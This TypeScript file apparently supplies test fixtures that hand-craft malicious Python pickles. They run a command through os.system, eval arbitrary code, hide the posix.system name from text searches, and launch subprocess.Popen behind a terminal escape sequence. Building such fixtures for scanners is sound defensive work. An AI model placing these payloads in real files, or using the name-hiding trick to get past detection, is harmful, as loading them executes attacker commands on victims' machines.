/** Pickles written by hand that would do something if Python loaded them. */

const bytesOf = (text: string): Buffer => Buffer.from(text, 'latin1');

/** Protocol 0: GLOBAL os.system, MARK, a command, TUPLE, REDUCE, STOP. */
export function runsCommand(command: string): Buffer {
  return bytesOf(`cos\nsystem\n(S'${command}'\ntR.`);
}

/** Protocol 2: `__builtin__.eval` of Python code, as `__reduce__` gives it, beside an honest value. */
export function evaluates(code: string): Buffer {
  const text = bytesOf(code);
  const length = Buffer.alloc(4);
  length.writeUInt32LE(text.length);
  return Buffer.concat([bytesOf('\u0080\u0002}(X\u0004\0\0\0stepK\u0007X\u0001\0\0\0xc__builtin__\neval\nX'), length, text, bytesOf('\u0085Ru.')]);
}

/** Protocol 4: the name is put together on the stack, so that no search for `os.system` finds it. */
export function hidesName(command: string): Buffer {
  const short = (text: string): Buffer => bytesOf(`\u008c${String.fromCharCode(text.length)}${text}`);
  return Buffer.concat([bytesOf('\u0080\u0004'), short('posix'), short('system'), bytesOf('\u0093'), short(command), bytesOf('\u0085R.')]);
}

/** Protocol 0 with INST: subprocess.Popen, whose command hides an escape sequence for terminals. */
export function openedBehindEscape(command: string): Buffer {
  return bytesOf(`((lp0\nS'${command}'\naS'\u001b[2Jcleared'\naisubprocess\nPopen\n.`);
}

/** An instance of a class that we do not know: harmless or not, nobody can tell. */
export function namesUnknown(): Buffer {
  return bytesOf('ccompany.secret\nTrainer\n)R.');
}
